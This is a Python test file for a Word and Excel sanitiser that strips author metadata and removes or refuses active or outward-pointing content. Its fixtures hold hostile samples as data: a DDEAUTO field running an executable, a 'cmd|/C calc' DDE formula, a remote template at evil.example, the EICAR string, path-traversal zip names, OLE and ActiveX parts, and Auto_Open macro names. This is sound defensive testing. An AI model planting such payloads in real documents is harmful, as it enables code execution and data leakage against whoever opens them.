"""A document of Word or Excel is kept with what is drawn of it, and with nothing that tells, acts or leads outside."""

from __future__ import annotations

import io

import pytest

from content.forms.documents import write_anew
from content.forms.file_types import DOCX, PACKAGE, XLSX
from content.forms.unreadable import Broken, Bundle, OtherType, Programs, Unreadable
from tests.content.forms import made
from tests.content.forms.documents_made import (
    NAME,
    docx,
    docx_parts,
    field,
    paragraph,
    relations,
    saved,
    unzipped,
    values_of,
    word_mime,
    word_xml,
    words_of,
    workbook,
    zipped,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
CORE = f"<cp:coreProperties xmlns:cp='x' xmlns:dc='y'><dc:creator>{NAME}</dc:creator></cp:coreProperties>"
DDE = " DDEAUTO c:\\\\evil.exe &quot;/k calc&quot; "
SHEET = "xl/worksheets/sheet1.xml"
OUTSIDE = "http://evil.example/x"


def kept(content: bytes) -> bytes:
    """What would be written to the disk; here without a process apart, which is slower."""
    written = io.BytesIO()
    assert write_anew(io.BytesIO(content), PACKAGE, written) in (DOCX, XLSX)
    return written.getvalue()


def all_of(content: bytes) -> bytes:
    return b"\n".join(name.encode() + b"\n" + part for name, part in unzipped(content).items())


# --- Word ---


def test_a_word_document_keeps_its_words_and_tells_nothing_of_its_author() -> None:
    change = f'w:id="1" w:author="{NAME}" w:date="2026-01-01T00:00:00Z"'
    body = (
        paragraph("Visible words")
        + f"<w:p><w:ins {change}><w:r><w:t>added</w:t></w:r></w:ins>"
        + f"<w:del {change}><w:r><w:delText>struck out</w:delText></w:r></w:del></w:p>"
        + '<w:p><w:r><w:commentReference w:id="7"/></w:r></w:p>'
    )
    who = change.removeprefix('w:id="1" ')
    comment = f'<w:comment w:id="7" w:initials="{NAME}" {who}>{paragraph("a remark")}</w:comment>'
    settings = f'<w:rsids><w:rsidRoot w:val="00A77427"/></w:rsids><w:docVars><w:docVar w:name="{NAME}"/></w:docVars>'
    parts = docx_parts(
        body,
        named=(
            ("c", "comments", "comments.xml"),
            ("s", "settings", "settings.xml"),
            ("p", "people", "people.xml"),
            ("x", "customXml", "../customXml/item1.xml"),
        ),
        typed=(("word/comments.xml", word_mime("comments")), ("word/settings.xml", word_mime("settings"))),
        more={
            "word/comments.xml": word_xml("comments", comment),
            "word/settings.xml": word_xml("settings", settings + "<w:zoom w:percent='90'/>"),
            "word/people.xml": word_xml("people", NAME),
            "customXml/item1.xml": f"<x>{NAME}</x>",
            "docProps/core.xml": CORE,
            "docProps/app.xml": f"<Properties><Company>{NAME}</Company></Properties>",
            "docProps/custom.xml": f"<Properties>{NAME}</Properties>",
            "docProps/thumbnail.jpeg": made.photo(),
        },
    )
    parts["_rels/.rels"] = relations(
        ("rId1", "officeDocument", "word/document.xml"),
        ("rId2", "metadata/core-properties", "docProps/core.xml"),
        ("rId3", "extended-properties", "docProps/app.xml"),
        ("rId4", "metadata/thumbnail", "docProps/thumbnail.jpeg"),
    )
    before = zipped(parts)
    assert all_of(before).count(NAME.encode()) > 8
    after = kept(before)
    assert NAME.encode() not in all_of(after)
    assert b"00A77427" not in all_of(after)
    assert b"2026-01-01" not in all_of(after)
    assert words_of(after) == words_of(before)
    assert words_of(after, "word/comments.xml") == "a remark"
    assert b"w:percent" in unzipped(after)["word/settings.xml"]
    assert not [name for name in unzipped(after) if name.startswith(("docProps", "customXml"))]


def test_a_picture_in_a_document_keeps_its_pixels_and_loses_its_place() -> None:
    blip = '<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="IMG_1.jpg" descr="C:\\Users\\Telltale\\a.jpg"/>'
    blip += '<a:blip r:embed="i" r:link="out"/></wp:inline></w:drawing></w:r></w:p>'
    before = docx(
        paragraph("Visible words") + blip,
        named=(("i", "image", "media/image1.jpeg"), ("out", "image", "file://server/share/a.png")),
        more={"word/media/image1.jpeg": made.photo() + b"a film with sound"},
    )
    after = unzipped(kept(before))
    picture = after["word/media/image1.jpeg"]
    assert made.opened(picture).tobytes() == made.opened(made.photo()).tobytes()
    for telling in (b"Telltale", b"taken at home", b"a film with sound", b"server/share", b"IMG_1"):
        assert telling not in b"".join(after.values())
    assert b'r:embed="i"' in after["word/document.xml"]
    assert b"r:link" not in after["word/document.xml"]


@pytest.mark.parametrize(
    ("body", "named", "more"),
    [
        ('<w:p><w:hyperlink r:id="z"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>', ("hyperlink", OUTSIDE), {}),
        (f"<w:p>{field(DDE, 'a result')}</w:p>", (), {}),
        (f"<w:p>{field(' HYPERLINK &quot;evil&quot; ', 'a link')}</w:p>", (), {}),
        ('<w:p><w:fldSimple w:instr="INCLUDEPICTURE evil"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>', (), {}),
        (
            '<w:p><w:object><v:shape id="s"><v:imagedata r:id="i"/></v:shape><o:OLEObject r:id="z"/></w:object></w:p>',
            ("oleObject", "embeddings/evil.bin"),
            {"word/embeddings/evil.bin": b"\xd0\xcf\x11\xe0 evil"},
        ),
        (paragraph("x"), ("control", "activeX/evil.xml"), {"word/activeX/evil.xml": b"<evil/>"}),
        (paragraph("x"), ("image", "media/evil.png"), {"word/media/evil.png": b"\xd0\xcf\x11\xe0 a macro: evil"}),
        (paragraph("x"), ("image", "media/evil.svg"), {"word/media/evil.svg": b"<svg><script>evil</script></svg>"}),
        (paragraph("x"), ("font", "fonts/evil.odttf"), {"word/fonts/evil.odttf": b"evil"}),
        (paragraph("x"), (), {"word/evil.vbs": b"evil", "evil.scr": b"evil", "evil.hta": b"evil"}),
        (paragraph("x"), (), {"../../evil.sh": b"evil", "/etc/evil": b"evil", "..\\evil.exe": b"evil"}),
        (paragraph("x"), (), {"word/evil.com": EICAR}),
    ],
)
def test_what_acts_or_leads_outside_does_not_go_along(
    body: str, named: tuple[str, str] | tuple[()], more: dict[str, bytes]
) -> None:
    relation = (("z", *named),) if named else ()
    picture = ("i", "image", "media/image1.png")
    parts = docx_parts(body, named=(*relation, picture)) | more | {"word/media/image1.png": made.picture("PNG")}
    after = kept(zipped(parts))
    for evil in (b"evil", b"EICAR", b"DDE"):
        assert evil not in all_of(after)
    assert words_of(after) == words_of(zipped(parts))


def test_a_template_far_away_is_not_asked_for() -> None:
    after = kept(
        docx(
            named=(("s", "settings", "settings.xml"),),
            typed=(("word/settings.xml", word_mime("settings")),),
            more={
                "word/settings.xml": word_xml("settings", '<w:attachedTemplate r:id="t"/><w:zoom w:percent="90"/>'),
                "word/_rels/settings.xml.rels": relations(("t", "attachedTemplate", "http://evil.example/t.dotm")),
            },
        )
    )
    assert b"attachedTemplate" not in all_of(after)
    assert b"evil.example" not in all_of(after)


def test_numbers_of_pages_still_count() -> None:
    body = f"<w:p>{field(' PAGE ', '1')}</w:p><w:p><w:fldSimple w:instr='NUMPAGES'/></w:p>"
    after = unzipped(kept(docx(body)))["word/document.xml"]
    assert b" PAGE " in after
    assert b"NUMPAGES" in after


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (docx(more={"word/vbaProject.bin": b"x"}), Programs),
        (docx(named=(("m", "vbaProject", "harmless.bin"),), more={"word/harmless.bin": b"x"}), Programs),
        (docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), Programs),
        (docx(named=(("a", "aFChunk", "a.html"),), more={"word/a.html": b"<p>"}), Bundle),
        (docx(paragraph("x") + '<w:altChunk r:id="none"/>'), Bundle),
        (docx("<w:p>"), Broken),
        (zipped(docx_parts() | {"word/document.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), Broken),
        (zipped({"[Content_Types].xml": b"<Types/>"}), OtherType),
        (zipped({"anything.txt": b""}), OtherType),
    ],
)
def test_what_cannot_be_kept_is_refused(content: bytes, why: type[Unreadable]) -> None:
    with pytest.raises(why):
        kept(content)


# --- Excel ---


def test_a_workbook_keeps_its_cells_and_tells_nothing_of_its_author() -> None:
    book = workbook({"A1": "Visible", "B1": 7.5, "A2": "=B1*2", "B2": "=SUM(A1:B1)"})
    sheet = book.active
    assert sheet is not None
    sheet["A1"].comment = made.remark(f"{NAME}:\nlook here", NAME)
    workbook_names = f'<fileSharing userName="{NAME}"/><workbookPr'
    before = saved(book, {"xl/workbook.xml": ("<workbookPr", workbook_names)})
    assert NAME.encode() in all_of(before)
    after = kept(before)
    assert NAME.encode() not in all_of(after)
    assert values_of(after) == values_of(before)
    assert b"look here" in all_of(after)
    assert "docProps/core.xml" not in unzipped(after)


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0",
        "WEBSERVICE(&quot;x&quot;)",
        "[1]Sheet1!A1",
        "'\\\\host\\[a.xlsx]S'!A1",
        "CALL(1)",
    ],
)
def test_a_formula_that_leads_outside_is_what_it_last_came_to(formula: str) -> None:
    before = saved(workbook(), {SHEET: ("<f>B1*2</f><v></v>", f"<f>{formula}</f><v>15</v>")})
    after = kept(before)
    assert values_of(after) == [["Visible", 7.5], [15, None]]
    assert b"<f>" not in unzipped(after)[SHEET]


def test_a_workbook_asks_no_other_workbook_and_opens_no_address() -> None:
    book = workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"].hyperlink = OUTSIDE
    names = "<definedNames><definedName name='_xlnm.Auto_Open'>Sheet!$A$1</definedName></definedNames></workbook>"
    after = kept(saved(book, {"xl/workbook.xml": ("</workbook>", names)}))
    assert b"evil" not in all_of(after)
    assert b"Auto_Open" not in all_of(after)
    assert values_of(after)[0] == ["Visible", 7.5]


@pytest.mark.parametrize("word", ["xlMacrosheet", "xlIntlMacrosheet", "dialogsheet"])
def test_a_sheet_of_old_macros_is_refused(word: str) -> None:
    named = {"xl/_rels/workbook.xml.rels": ("relationships/worksheet", f"relationships/{word}")}
    before = saved(workbook(), named)
    with pytest.raises(Programs):
        kept(before)


def test_a_sheet_that_says_that_it_is_one_of_macros_is_refused() -> None:
    types = (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
        "application/vnd.ms-excel.macrosheet+xml",
    )
    with pytest.raises(Programs):
        kept(saved(workbook(), {"[Content_Types].xml": types}))
